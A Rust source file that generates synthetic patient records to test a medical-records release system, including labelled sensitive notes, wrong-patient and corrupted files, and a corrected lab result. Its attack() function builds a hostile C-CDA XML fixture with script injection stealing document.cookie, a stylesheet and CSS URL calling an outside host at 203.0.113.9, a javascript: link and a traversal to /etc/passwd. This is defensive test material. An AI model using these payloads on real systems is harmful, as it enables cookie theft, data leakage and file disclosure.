//! What a release of records has to find in a chart, planted in the last patient's: another patient's scan, notes that only some
//! legal bases open, a draft, a corrected result, a file that does not open, a document that attacks who looks at it.
//!
//! Not for: damage that an ingest meets (`damage`), or the merged and parted patients of `formats::hl7v2`.

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use super::calendar::Day;
use super::damage::{Fate, Line, plain};
use super::dice::{Dice, Stream};
use super::notes::{Note, NoteKind};
use super::pdf;
use super::people::{self, Person};
use super::sink::Type;

/// The lines to add to a delivery, in order.
pub fn lines(seed: u64, person: &Person) -> Vec<Line> {
    let mut plants = Plants { person, dice: Dice::new(seed, Stream::Releases, 0), lines: Vec::new() };
    plants.notes();
    // Nobody of the delivery, however many patients it has.
    plants.files(&people::person(seed, 1 << 43));
    plants.results();
    plants.lines
}

struct Plants<'a> {
    person: &'a Person,
    dice: Dice,
    lines: Vec<Line>,
}

/// The day of what has no reason to be of another.
fn usual() -> Day {
    Day::CUTOVER.plus(-40)
}

impl Plants<'_> {
    fn add(&mut self, what: &'static str, kind: Type, mut record: Value, id: &str, updated: Day) {
        let labelled = record["meta"]["security"].is_array();
        record["resourceType"] = kind.name().into();
        record["id"] = id.into();
        record["subject"] = json!({"reference": format!("Patient/{}", self.person.id)});
        if record["meta"]["versionId"].is_null() {
            record["meta"]["versionId"] = "1".into();
        }
        record["meta"]["lastUpdated"] = format!("{updated}T12:00:00-04:00").into();
        // A later version is no further record.
        let is_new = self.lines.iter().all(|line| line.id.as_deref() != Some(id));
        let line = plain(what, kind, record.to_string().into_bytes(), Fate::Archived);
        self.lines.push(Line { id: Some(id.to_owned()), new: is_new, labelled, ..line });
    }

    /// A document of one file. `more` takes the place of members.
    fn document(&mut self, what: &'static str, title: &str, file: (&str, &[u8]), day: Day, more: Value) {
        let id = self.dice.id().to_string();
        let attachment = json!({"contentType": file.0, "data": STANDARD.encode(file.1), "title": title});
        let mut record = json!({
            "status": "current",
            "docStatus": "final",
            "type": {"text": title},
            "date": format!("{day}T12:00:00-04:00"),
            "content": [{"attachment": attachment}],
            "context": {"period": {"start": format!("{day}T09:00:00-04:00"), "end": format!("{day}T09:30:00-04:00")}},
        });
        for (member, value) in more.as_object().cloned().unwrap_or_default() {
            record[member] = value;
        }
        self.add(what, Type::DocumentReference, record, &id, day);
    }

    fn text(&mut self, what: &'static str, title: &str, words: &str, day: Day, more: Value) {
        let head = header(self.person, title, day);
        self.document(what, title, ("text/plain; charset=utf-8", format!("{head}\n\n{words}\n").as_bytes()), day, more);
    }

    fn notes(&mut self) {
        let label = |code: &str| json!({"meta": {"security": [{"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": code}]}});
        let (day, young) = (usual(), self.person.birth.plus(365 * 14 + 30));
        self.text("note under 42 CFR Part 2", "Progress note", "Attends the program weekly.", day, label("42CFRPart2"));
        self.text("psychotherapy note", "Process note", "Spoke of the father.", day, label("PSYTHPN"));
        self.text("minor's record", "Counselling note", "Came without the parents.", young, label("STD"));
        self.text("unsigned draft", "Progress note", "To be finished.", day, json!({"docStatus": "preliminary"}));
        let error = json!({"docStatus": "entered-in-error"});
        self.text("entered in error", "Telephone encounter note", "Wrong caller.", day, error);
        let filed = json!({"date": format!("{}T12:00:00-04:00", day.plus(38))});
        self.text("late-filed document", "Addendum", "Dictated later.", day, filed);
        self.text("legal hold", "Legal hold notice", "Keep everything of this patient: Doe v. Roe.", day, json!({}));
        self.text("incident report", "Incident report", "Fell beside the bed.", day, json!({}));
    }

    fn files(&mut self, other: &Person) {
        let day = usual();
        let page = |words: String| {
            pdf::one_page(&Note { kind: NoteKind::Letter, sections: vec![("RECEIVED BY FAX", words)], phrase: String::new() })
        };
        let scan = page(header(other, "Cardiology report", day));
        self.document("wrong-patient scan", "Cardiology report", ("application/pdf", &scan), day, json!({}));
        let own = page(header(self.person, "Dermatology report", day));
        self.document("scan", "Dermatology report", ("application/pdf", &own), day, json!({}));
        self.document("the same scan again", "Dermatology report", ("application/pdf", &own), day, json!({}));
        let broken = own.get(..120).unwrap_or_default();
        self.document("corrupted PDF", "Operative sketch", ("application/pdf", broken), day, json!({}));
        self.document("empty file", "Fax cover", ("application/pdf", b""), day, json!({}));
        let attack = attack(self.person, other);
        self.document("malicious C-CDA", "Summary of care", ("application/xml", attack.as_bytes()), day, json!({}));
    }

    fn results(&mut self) {
        let (id, day) = (self.dice.id().to_string(), usual());
        let potassium = |value: f64, status: &str, version: &str| {
            json!({
                "meta": {"versionId": version},
                "status": status,
                "category": [{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/observation-category", "code": "laboratory"}]}],
                "code": {"coding": [{"system": "http://loinc.org", "code": "2823-3", "display": "Potassium"}]},
                "effectiveDateTime": format!("{day}T08:00:00-04:00"),
                "valueQuantity": {"value": value, "unit": "mmol/L"},
            })
        };
        self.add("superseded result", Type::Observation, potassium(7.9, "final", "1"), &id, day);
        self.add("corrected result", Type::Observation, potassium(4.1, "corrected", "2"), &id, day.plus(1));
    }
}

fn header(person: &Person, title: &str, day: Day) -> String {
    let born = person.birth.us();
    format!("{title}\nPatient: {}   MRN: {}   Born: {born}\nDate of service: {}", person.full_name(), person.mrn, day.us())
}

/// A C-CDA that carries script, foreign addresses and markup out of place, and names another patient.
fn attack(person: &Person, other: &Person) -> String {
    let born: String = other.birth.to_string().chars().filter(|c| *c != '-').collect();
    format!(
        "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"http://203.0.113.9/steal.xsl\"?>\
         <ClinicalDocument xmlns=\"urn:hl7-org:v3\"><title>&lt;script&gt;alert(1)&lt;/script&gt;</title>\
         <recordTarget><patientRole><id root=\"2.999\" extension=\"{}\"/><patient><name><given>{}</given><family>{}</family></name>\
         <birthTime value=\"{born}\"/></patient></patientRole></recordTarget>\
         <component><structuredBody><component><section><title>Plan of {}</title>\
         <text><script>alert(document.cookie)</script><paragraph onclick=\"alert(1)\" style=\"background:url(http://203.0.113.9/p)\">\
         Rest <linkHtml href=\"javascript:alert(1)\">here</linkHtml></paragraph>\
         <renderMultiMedia referencedObject=\"../../../../etc/passwd\"/></text></section></component></structuredBody></component>\
         </ClinicalDocument>",
        other.mrn, other.given, other.family, person.given
    )
}
